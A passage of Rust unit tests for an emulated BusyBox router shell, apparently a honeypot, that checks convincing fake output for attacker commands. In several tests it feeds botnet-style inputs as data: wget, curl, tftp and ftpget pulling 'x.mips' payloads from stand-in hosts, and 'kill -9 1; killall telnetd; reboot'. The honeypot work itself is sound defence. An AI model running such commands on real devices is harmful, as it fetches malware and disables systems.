        assert_eq!(run(&mut sh, "busybox MIRAI"), "MIRAI: applet not found\r\n");
        assert_eq!(run(&mut sh, "busybox curl"), "curl: applet not found\r\n");
        assert_eq!(run(&mut sh, "/bin/busybox echo hi"), "hi\r\n");
        assert!(run(&mut sh, "/bin/busybox cat /proc/mounts").contains("/dev/root"));
        let help = run(&mut sh, "busybox");
        assert!(
            help.starts_with("BusyBox v1.24.1 (2017-03-09 11:08:39 CST) multi-call binary.\r\n")
        );
        assert!(help.contains("Currently defined functions:\r\n\t[, [[, arp, ash,"));
        assert!(help.lines().all(|l| l.len() <= 82));
    }

    #[test]
    fn commands_by_path_and_unknown() {
        let mut sh = root();
        assert_eq!(run(&mut sh, "/bin/ls /etc/init.d"), "rcS\r\n");
        assert_eq!(run(&mut sh, "/usr/bin/whoami"), "root\r\n");
        assert_eq!(
            run(&mut sh, "frobnicate -x"),
            "-sh: frobnicate: not found\r\n"
        );
        assert_eq!(run(&mut sh, "/opt/x"), "-sh: /opt/x: not found\r\n");
        assert_eq!(run(&mut sh, "/etc"), "-sh: /etc: Permission denied\r\n");
        assert_eq!(run(&mut sh, "which wget"), "/usr/bin/wget\r\n");
    }

    #[test]
    fn sh_and_scripts() {
        let mut sh = root();
        assert_eq!(run(&mut sh, "sh -c \"echo a; echo b\""), "a\r\nb\r\n");
        assert_eq!(run(&mut sh, "enable; system; shell; sh; linuxshell"), "");
        run(&mut sh, "cd /tmp; echo 'echo from script' > s");
        assert_eq!(run(&mut sh, "sh s"), "from script\r\n");
        assert_eq!(run(&mut sh, "./s"), "-sh: ./s: Permission denied\r\n");
        assert_eq!(run(&mut sh, "chmod 777 s; ./s"), "from script\r\n");
        assert_eq!(run(&mut sh, "./missing"), "-sh: ./missing: not found\r\n");
        assert_eq!(
            run(&mut sh, "sh nothere"),
            "sh: can't open 'nothere': No such file or directory\r\n"
        );
        // A self-invoking script terminates.
        run(&mut sh, "echo 'sh r; sh r' > r");
        assert_eq!(run(&mut sh, "sh r; echo done"), "done\r\n");
    }

    #[test]
    fn conditional_execution() {
        let mut sh = root();
        assert_eq!(run(&mut sh, "false && echo no || echo yes"), "yes\r\n");
        assert_eq!(run(&mut sh, "true && echo yes"), "yes\r\n");
        assert_eq!(
            run(&mut sh, "cd /nope 2>/dev/null || cd /tmp; pwd"),
            "/tmp\r\n"
        );
        assert_eq!(
            run(&mut sh, "cat /nope; echo $?"),
            "cat: can't open '/nope': No such file or directory\r\n1\r\n"
        );
    }

    #[test]
    fn pipes_feed_filters() {
        let mut sh = root();
        let head = run(&mut sh, "cat /proc/cpuinfo | head -3");
        assert_eq!(head.lines().count(), 3);
        assert!(head.starts_with("system type"));
        assert_eq!(
            run(&mut sh, "cat /proc/cpuinfo | grep -c processor"),
            "4\r\n"
        );
        assert_eq!(
            run(&mut sh, "grep root /etc/passwd"),
            "root:x:0:0:root:/root:/bin/sh\r\n"
        );
        assert_eq!(
            run(&mut sh, "tail -n 1 /etc/passwd"),
            "nobody:x:65534:65534:nobody:/nonexistent:/bin/false\r\n"
        );
        assert_eq!(run(&mut sh, "wc -l /etc/passwd"), "      4 /etc/passwd\r\n");
        assert_eq!(run(&mut sh, "head"), "");
        assert_eq!(sh.run_line("cat /bin/echo | head -c 4").text, b"\x7fELF");
        assert_eq!(run(&mut sh, "echo abcdef | tail -c 3"), "ef\r\n");
        assert_eq!(run(&mut sh, "nproc"), "4\r\n");
    }

    #[test]
    fn system_info_commands() {
        let mut sh = root();
        assert_eq!(
            run(&mut sh, "id"),
            "uid=0(root) gid=0(root) groups=0(root)\r\n"
        );
        assert_eq!(run(&mut sh, "whoami"), "root\r\n");
        assert_eq!(run(&mut sh, "hostname"), "router\r\n");
        assert!(run(&mut sh, "ps").starts_with(
            "  PID USER       VSZ STAT COMMAND\r\n    1 root      1516 S    init\r\n"
        ));
        assert!(run(&mut sh, "free").contains("Mem:        126072"));
        assert!(run(&mut sh, "df").contains("/dev/root"));
        assert!(run(&mut sh, "ifconfig").contains("inet addr:192.168.1.1"));
        assert!(run(&mut sh, "ip addr").contains("inet 192.168.1.1/24"));
        assert!(run(&mut sh, "netstat -an").contains("0.0.0.0:23"));
        assert!(run(&mut sh, "uptime").contains(" up 12 days, "));
        assert!(run(&mut sh, "w").contains("USER"));
        assert!(run(&mut sh, "date").contains(" UTC "));
        assert!(run(&mut sh, "help").contains("Built-in commands:"));
        assert_eq!(
            Shell::new("admin").id(),
            "uid=1000(admin) gid=1000(admin) groups=1000(admin)\n"
        );
    }

    #[test]
    fn globs_expand_against_the_fake_fs() {
        assert!(wildcard("*.pid", "goahead.pid"));
        assert!(wildcard("a?c*", "abcdef"));
        assert!(!wildcard("*.pid", "goahead.pi"));
        assert!(wildcard("*", ""));
        let mut sh = root();
        assert_eq!(
            run(&mut sh, "echo /var/run/*.pid"),
            "/var/run/goahead.pid /var/run/udhcpc.pid\r\n"
        );
        assert_eq!(run(&mut sh, "echo '/var/run/*'"), "/var/run/*\r\n");
        assert_eq!(run(&mut sh, "echo /nope/*"), "/nope/*\r\n");
        run(&mut sh, "cd /tmp; touch a b c; rm -rf /tmp/*");
        assert_eq!(run(&mut sh, "ls /tmp"), "dhcp.leases\r\n");
        assert!(run(&mut sh, "ls /bin/*").lines().count() > 10);
    }

    #[test]
    fn layouts_keep_their_indentation() {
        let mut sh = root();
        assert!(run(&mut sh, "ifconfig").contains("\r\n          inet addr:192.168.1.1  Bcast:"));
        assert!(run(&mut sh, "ip addr").contains("\r\n    inet 192.168.1.1/24 brd"));
        assert!(run(&mut sh, "busybox").contains("\r\n   or: busybox --install [-s] [DIR]\r\n"));
        assert_eq!(run(&mut sh, "cd /proc/self; pwd"), "/proc/self\r\n");
    }

    #[test]
    fn date_formatting() {
        assert_eq!(format_date(0), "Thu Jan  1 00:00:00 UTC 1970");
        assert_eq!(format_date(1_489_028_919), "Thu Mar  9 03:08:39 UTC 2017");
        assert_eq!(
            format_date_custom(1_489_028_919, "%Y-%m-%d %s"),
            "2017-03-09 1489028919"
        );
    }

    #[test]
    fn downloads_fail_plausibly() {
        let mut sh = root();
        assert_eq!(
            run(&mut sh, "cd /tmp; wget http://203.0.113.9/bins/x.mips -O x"),
            "Connecting to 203.0.113.9 (203.0.113.9:80)\r\nwget: can't connect to remote host (203.0.113.9): Connection timed out\r\n"
        );
        assert!(!sh.exists("/tmp/x"));
        assert_eq!(
            run(&mut sh, "wget http://evil.example/x"),
            "wget: bad address 'evil.example'\r\n"
        );
        assert_eq!(
            run(&mut sh, "curl -O http://198.51.100.7:8080/a"),
            "curl: (7) Failed to connect to 198.51.100.7 port 8080: Connection timed out\r\n"
        );
        assert_eq!(
            run(&mut sh, "tftp -g -r x 198.51.100.7"),
            "tftp: timeout\r\n"
        );
        assert_eq!(
            run(&mut sh, "ftpget -v -u a -p b 198.51.100.7 x x"),
            "ftpget: can't connect to remote host (198.51.100.7): Connection timed out\r\n"
        );
        assert_eq!(
            run(&mut sh, "wget -q http://1.2.3.4:81/a"),
            "wget: can't connect to remote host (1.2.3.4): Connection timed out\r\n"
        );
    }

    #[test]
    fn file_management() {
        let mut sh = root();
        assert_eq!(run(&mut sh, "cd /tmp; mkdir d; cd d; pwd"), "/tmp/d\r\n");
        assert_eq!(
            run(&mut sh, "mkdir /tmp/d"),
            "mkdir: can't create directory '/tmp/d': File exists\r\n"
        );
        assert_eq!(
            run(&mut sh, "mkdir /etc/x"),
            "mkdir: can't create directory '/etc/x': Read-only file system\r\n"
        );
        assert_eq!(
            run(&mut sh, "mkdir -p /tmp/a/b/c; cd /tmp/a/b/c; pwd"),
            "/tmp/a/b/c\r\n"
        );
        assert_eq!(run(&mut sh, "touch /tmp/t; ls /tmp/t"), "/tmp/t\r\n");
        assert_eq!(
            run(&mut sh, "cp /bin/echo /tmp/e; ls -l /tmp/e").get(..10),
            Some("-rwxrwxrwx")
        );
        assert_eq!(
            run(&mut sh, "mv /tmp/e /tmp/f; ls /tmp/e"),
            "ls: /tmp/e: No such file or directory\r\n"
        );
        assert!(sh.exists("/tmp/f"));
        assert_eq!(
            run(&mut sh, "rm /tmp/f; rm /tmp/f"),
            "rm: can't remove '/tmp/f': No such file or directory\r\n"
        );
        assert_eq!(
            run(&mut sh, "rm -rf /tmp/a; cd /tmp/a"),
            "-sh: cd: can't cd to /tmp/a: No such file or directory\r\n"
        );
        assert_eq!(
            run(&mut sh, "rm /bin/ls"),
            "rm: can't remove '/bin/ls': Read-only file system\r\n"
        );
        assert_eq!(
            run(&mut sh, "chmod 777 /tmp/nope"),
            "chmod: /tmp/nope: No such file or directory\r\n"
        );
        assert_eq!(run(&mut sh, "kill -9 1; killall telnetd; reboot"), "");
    }

    #[test]
    fn exit_stops_the_line() {
        let mut sh = root();
        let out = sh.run_line("echo a; exit; echo b");
        assert!(out.exit);
        assert_eq!(out.text, b"a\r\n");
        assert_eq!(out.commands, [&b"echo a"[..], b"exit", b"echo b"]);
        assert!(sh.run_line("logout").exit);
        assert!(sh.run_line("quit").exit);
        assert!(!sh.run_line("sh -c exit").exit);
    }

    #[test]
    fn output_is_capped() {
        let mut sh = root();
        let line = "cat /proc/cpuinfo;".repeat(20);
        let out = sh.run_line(&line);
        assert!(out.text.len() <= MAX_OUTPUT);
        assert!(out.text.ends_with(b"\r\n"));
        let out = sh
            .run_line("busybox; ls -la /bin /sbin /usr/bin /usr/sbin /bin /sbin /usr/bin /usr/bin");
        assert!(out.text.len() <= MAX_OUTPUT);
    }

    #[test]
    fn garbage_does_not_panic() {
        let mut sh = root();
        let inputs = [
            "\u{0}\u{1}\u{7f}\u{1b}[A",
            "'unbalanced",
            "\"also",
            "\\",
            "echo \\",
            "${",
            "$",
            "echo ${HOME",
            "> ",
            "2>&",
            "<",
            "< /nope",
            "&&&&||||;;;;||",
            "cd ''",
            "echo -e '\\x' '\\0' '\\'",
            "ls -l /proc/self /lib/libc.so.0",
            "cd /proc/self",
            "../../../../..",
            "ééé 日本語 $é",
            "wget http://[::1]:99999/",
            "busybox /bin/",
            "A=1 B=2",
            "echo $A",
        ];
        for i in inputs {
            let _ = sh.run_line(i);
        }
        let huge = "A".repeat(1 << 20);
        let out = sh.run_line(&huge);
        assert!(out.text.len() <= MAX_OUTPUT);
        let expand = "$HOME".repeat(100_000);
        assert!(sh.run_line(&format!("echo {expand}")).text.len() <= MAX_OUTPUT);
        let mut x: u32 = 12345;
        for _ in 0..300 {
            let s: String = (0..64)
                .map(|_| {
                    x = x.wrapping_mul(1_103_515_245).wrapping_add(12345);
                    char::from_u32((x >> 16) % 0x80).unwrap_or(' ')
                })
                .collect();
            let _ = sh.run_line(&s);
        }
    }

    #[test]
    fn users_and_variables() {
        let mut sh = Shell::new("../../etc");
        assert_eq!(sh.user, "....etc");
        let mut sh2 = Shell::new("guest");
        assert_eq!(run(&mut sh2, "pwd"), "/home/guest\r\n");
        assert_eq!(sh2.prompt(), "~ $ ");
        assert!(run(&mut sh2, "ls /home").contains("guest"));
        assert_eq!(run(&mut sh, "X=hello; echo $X ${X}!"), "hello hello!\r\n");
    }
}
